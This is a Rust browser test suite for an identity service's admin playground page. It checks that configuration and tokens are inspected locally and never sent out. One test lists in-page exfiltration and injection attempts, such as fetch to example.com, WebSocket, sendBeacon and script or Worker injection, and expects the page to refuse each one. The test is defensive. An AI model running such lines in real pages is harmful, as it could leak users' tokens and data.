//! The administrators' playground: what is written is looked at as it is written, and nothing of it leaves the page.

use std::time::{Duration, Instant};

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use browser_tests::{Chrome, Settings};
use conformance::HostOptions;
use conformance::service::Service;
use entra_emulator::fixtures::group;
use serde_json::{Value, json};
use thirtyfour::{Key, TypingData};
use tokio::net::TcpListener;
use tokio::process::Child;

struct Playground {
    chrome: Chrome,
    service: Service,
    url: String,
    _running: Child,
}

impl Playground {
    async fn open() -> Self {
        Self::open_with(Settings::default()).await
    }

    async fn open_with(settings: Settings) -> Self {
        let listen = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap();
        let more = format!("[admin]\nlisten = \"{listen}\"\n");
        let options = HostOptions { more, ..HostOptions::default() }.set("groups.source", "\"claim\"");
        let service = Service::prepare(options).await;
        let running = service.spawn().await;
        let chrome = Chrome::start(settings).await;
        let url = format!("http://{listen}/admin/playground/");
        chrome.open(&url).await;
        let playground = Self { chrome, service, url, _running: running };
        playground.says("The configuration is good.").await;
        playground
    }

    /// Waits until the page says so.
    async fn says(&self, words: &str) {
        let deadline = Instant::now() + Duration::from_secs(40);
        loop {
            let said = self.chrome.text("#status").await;
            if said.contains(words) {
                return;
            }
            assert!(Instant::now() < deadline, "expected {words:?}, the page says {said:?}");
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
    }

    /// Waits until an expression of the page is true.
    async fn until(&self, expression: &str) {
        let deadline = Instant::now() + Duration::from_secs(40);
        while self.chrome.evaluate(expression).await != true {
            assert!(Instant::now() < deadline, "it doesn't become true: {expression}");
            tokio::time::sleep(Duration::from_millis(25)).await;
        }
    }

    /// What is in a text area.
    async fn written(&self, id: &str) -> String {
        self.chrome.evaluate(&format!("document.getElementById('{id}').value")).await.as_str().unwrap().to_owned()
    }

    /// Pastes over what is in a text area.
    async fn paste(&self, id: &str, text: &str) {
        let script = format!(
            "(() => {{ const area = document.getElementById('{id}'); area.value = {}; \
             area.dispatchEvent(new Event('input')); }})()",
            json!(text)
        );
        self.chrome.evaluate(&script).await;
    }
}

fn ada() -> Value {
    json!({
        "email": "ada@contoso.example", "preferred_username": "ada@contoso.example", "name": "Ada Lovelace",
        "given_name": "Ada", "family_name": "Lovelace", "acct": 0, "groups": [group::VPN_USERS],
    })
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_written_is_shown_as_it_is_written() {
    let playground = Playground::open().await;
    let chrome = &playground.chrome;
    chrome.accessible("playground-begin").await;
    // It begins with what the host runs, without what is the host's.
    let running = playground.written("configuration").await;
    assert!(running.contains("kind = \"microsoft\"") && !running.contains("client_secret"), "{running}");

    // A person, key by key.
    chrome.element("#input").await.send_keys("{\"email\": \"ada@contoso.example\"").await.unwrap();
    playground.says("can't be read").await;
    chrome.element("#input").await.send_keys("}").await.unwrap();
    playground.says("would be let in").await;
    assert_eq!(chrome.text("#identity-email").await, "ada@contoso.example");

    // The whole person; then the mapping is changed, and the policy.
    playground.paste("input", &ada().to_string()).await;
    chrome.element("#identity-given_name").await;
    playground
        .paste("configuration", &format!("{running}[provider.claims.transforms]\ngiven_name = [\"uppercase\"]\n"))
        .await;
    playground.until("document.getElementById('identity-given_name')?.textContent === 'ADA'").await;
    let policy = format!(
        "{running}[[provider.policy.rules]]\nname = \"VPN\"\nrequire = \"contains(groups, '{}')\"\nmessage = \"Ask.\"\n",
        group::STAFF
    );
    playground.paste("configuration", &policy).await;
    playground.says("would be refused: policy_refused").await;
    assert_eq!(chrome.text("#refusal-message").await, "Ask.");
    assert!(chrome.text("#checks").await.contains("VPN"), "the rule is named");
    chrome.accessible("playground-refused").await;

    // A mistake: its key, its line, and what to do; and the line is one click away, however long the text is.
    let long = format!("{}{running}", "# what came before\n".repeat(500));
    playground
        .paste("configuration", &long.replace("kind = \"microsoft\"", "kind = \"microsoft\"\nclientid = \"x\""))
        .await;
    playground.says("1 error").await;
    let problems = chrome.text("#problems").await;
    assert!(problems.contains("clientid") && problems.contains("client_id"), "{problems}");
    chrome.click("#problems button.line").await;
    let marked = "(() => { const area = document.getElementById('configuration'); return area.value.slice(area.selectionStart, area.selectionEnd); })()";
    assert!(chrome.evaluate(marked).await.as_str().is_some_and(|line| line.contains("clientid")), "the line is marked");
    let shown = "(() => { const area = document.getElementById('configuration'); const height = parseFloat(getComputedStyle(area).lineHeight); \
                 const bottom = area.value.slice(0, area.selectionStart).split('\\n').length * height - area.scrollTop; \
                 const status = document.getElementById('status').getBoundingClientRect().bottom; \
                 return bottom > height && bottom < area.clientHeight && area.getBoundingClientRect().top + bottom - height > status; })()";
    assert_eq!(chrome.evaluate(shown).await, true, "and in sight");
    chrome.accessible("playground-problem").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_is_decoded_and_goes_nowhere() {
    let playground = Playground::open_with(Settings { net_log: true, ..Settings::default() }).await;
    let chrome = &playground.chrome;
    let part = |value: &Value| URL_SAFE_NO_PAD.encode(value.to_string());
    let mut person = ada();
    person["note"] = json!("only-in-the-token");
    let token = format!("{}.{}.c2lnbmF0dXJl", part(&json!({ "alg": "RS256", "kid": "k" })), part(&person));
    playground.paste("input", &token).await;
    playground.says("would be let in. The token is decoded, not verified.").await;
    assert!(chrome.text("#token-note").await.starts_with("Decoded, not verified."));
    assert_eq!(chrome.text("#identity-username").await, "adacontoso.example");
    chrome.click("details summary").await;
    assert!(chrome.text("#header").await.contains("RS256"));
    assert!(chrome.text("#claims").await.contains("only-in-the-token"));
    chrome.accessible("playground-token").await;
    // Whatever script there is in the page, it can't send anything, nor make scripts or markup of a text.
    let ways = [
        "fetch('/?smuggled').then(() => 'sent', () => 'refused')",
        "fetch('https://example.com/?smuggled').then(() => 'sent', () => 'refused')",
        "new Promise(done => { const to = new WebSocket('ws://127.0.0.1:1/smuggled'); to.onopen = () => done('sent'); to.onerror = () => done('refused'); })",
        "navigator.sendBeacon('/smuggled', 'smuggled') ? new Promise(done => addEventListener('securitypolicyviolation', () => done('refused')) || setTimeout(done, 5000, 'sent')) : 'refused'",
        "new Promise(done => { const picture = new Image(); picture.onload = () => done('sent'); picture.onerror = () => done('refused'); picture.src = '/smuggled.svg'; })",
        "(document.body.innerHTML = '<b>', 'made')",
        "(new Worker('/smuggled.mjs'), 'made')",
        "(document.createElement('script').src = '/smuggled.mjs', 'made')",
        "(trustedTypes.createPolicy('default', { createHTML: text => text }), 'made')",
    ];
    for way in ways {
        let told = format!("(() => {{ try {{ return {way}; }} catch {{ return 'refused'; }} }})()");
        let answer = chrome.evaluate(&told).await;
        assert_eq!(answer, "refused", "{way}");
    }
    // Nothing is kept either. What the address says does leave: the log would show it.
    chrome.open(&format!("{}?this-leaves", playground.url)).await;
    playground.says("The configuration is good.").await;
    assert_eq!(playground.written("input").await, "");

    let Playground { chrome, url, .. } = playground;
    let log = chrome.end().await;
    assert!(log.mentions("GET /admin/playground/worker.mjs") && log.mentions("this-leaves"), "{:?}", log.urls);
    let payload = part(&person);
    for secret in ["only-in-the-token", payload.as_str(), "c2lnbmF0dXJl", "smuggled"] {
        assert!(!log.mentions(secret), "{secret:?} left the page: {:?}", log.urls);
    }
    let origin = url.strip_suffix("/admin/playground/").unwrap();
    let asked: Vec<_> = log.urls.iter().filter_map(|url| url.strip_prefix(origin)).collect();
    #[rustfmt::skip]
    let files = ["", "evaluator.mjs", "examples.mjs", "module.mjs", "openid.mjs", "page.mjs", "style.css", "worker.mjs", "?this-leaves"];
    for path in &asked {
        let file = path.strip_prefix("/admin/playground/");
        assert!(file.is_some_and(|file| files.contains(&file)), "{path} was requested: {asked:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn it_is_used_by_keyboard() {
    let playground = Playground::open().await;
    let chrome = &playground.chrome;
    let focused = "document.activeElement.id || document.activeElement.className";
    let press = async |keys: TypingData| {
        let active = chrome.driver().active_element().await.unwrap();
        active.send_keys(keys).await.unwrap();
    };
    for expected in ["load", "export", "configuration", "example", "input", "results"] {
        press("" + Key::Tab).await;
        assert_eq!(chrome.evaluate(focused).await, expected);
    }
    // An example is chosen and what becomes of it is told, politely, where a screen reader hears it.
    chrome.element("#example").await.send_keys("A guest").await.unwrap();
    playground.says("would be refused: guest_not_allowed").await;
    assert_eq!(chrome.element("#status").await.attr("role").await.unwrap().as_deref(), Some("status"));
    playground.until("document.getElementById('results').ariaBusy === 'false'").await;
    // Results are beside what is written, and the status is in sight wherever somebody writes.
    let in_sight = "['status', 'results'].every(id => { const { top, bottom } = document.getElementById(id).getBoundingClientRect(); \
                    return top >= 0 && top < innerHeight && bottom <= innerHeight; })";
    for area in ["#configuration", "#input"] {
        chrome.element(area).await.send_keys(" ").await.unwrap();
        assert_eq!(chrome.evaluate(in_sight).await, true, "{area}");
    }
    // From a problem to its line, and what is typed next is there.
    press(Key::Control + Key::Home).await;
    chrome.element("#configuration").await.send_keys("x").await.unwrap();
    playground.says("1 error").await;
    chrome.element("#problems button.line").await.focus().await.unwrap();
    press("" + Key::Enter).await;
    assert_eq!(chrome.evaluate(focused).await, "configuration");
    // On a narrow page the results are below, and the status still in sight.
    chrome.driver().set_window_rect(0, 0, 500, 900).await.unwrap();
    chrome.element("#input").await.send_keys(" ").await.unwrap();
    let in_sight = in_sight.replace("['status', 'results']", "['status']");
    assert_eq!(chrome.evaluate(&in_sight).await, true, "narrow");
    let overflows = "document.documentElement.scrollWidth > document.documentElement.clientWidth";
    assert_eq!(chrome.evaluate(overflows).await, false, "it is wider than the window");
    chrome.accessible("playground-narrow").await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_snippet_is_loaded_and_exported() {
    let playground = Playground::open().await;
    let chrome = &playground.chrome;
    let folder = playground.service.folder.path();
    let file = folder.join("two.toml");
    let text = "# mine\n[[provider]]\nid = \"first\"\nkind = \"oidc\"\nbase_url = \"https://op.example\"\nclient_id = \"x\"\n\
                [[provider]]\nid = \"second\"\nkind = \"oidc\"\nbase_url = \"https://other.example\"\nclient_id = \"y\"\n";
    std::fs::write(&file, text).unwrap();
    chrome.element("#file").await.send_keys(file.to_str().unwrap()).await.unwrap();
    playground.until("document.querySelectorAll('#provider option').length === 2").await;
    assert_eq!(playground.written("configuration").await, text);
    assert_eq!(chrome.text("#provider").await.split_whitespace().collect::<Vec<_>>(), ["first", "second"]);
    let to = json!({ "behavior": "allow", "downloadPath": folder });
    chrome.driver().cdp().send_raw("Browser.setDownloadBehavior", to).await.unwrap();
    playground.paste("configuration", &text.replace("client_id = \"y\"", "client_id = \"z\"")).await;
    chrome.click("#export").await;
    let exported = folder.join("provider.toml");
    let deadline = Instant::now() + Duration::from_secs(40);
    while std::fs::read_to_string(&exported).unwrap_or_default().is_empty() {
        assert!(Instant::now() < deadline, "nothing was exported");
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(std::fs::read_to_string(&exported).unwrap(), text.replace("client_id = \"y\"", "client_id = \"z\""));

    // Half a line in the second provider, and the choice stays on it.
    chrome.click("#provider option:nth-child(2)").await;
    playground.paste("configuration", &format!("{text}prompt =")).await;
    playground.says("1 error").await;
    assert!(chrome.text("#problems").await.contains("TOML"));
    playground.paste("configuration", &format!("{text}prompt = \"always\"")).await;
    playground.until("document.querySelector('#problems code')?.textContent === 'prompt'").await;
    assert_eq!(chrome.evaluate("document.getElementById('provider').selectedIndex").await, 1);
}
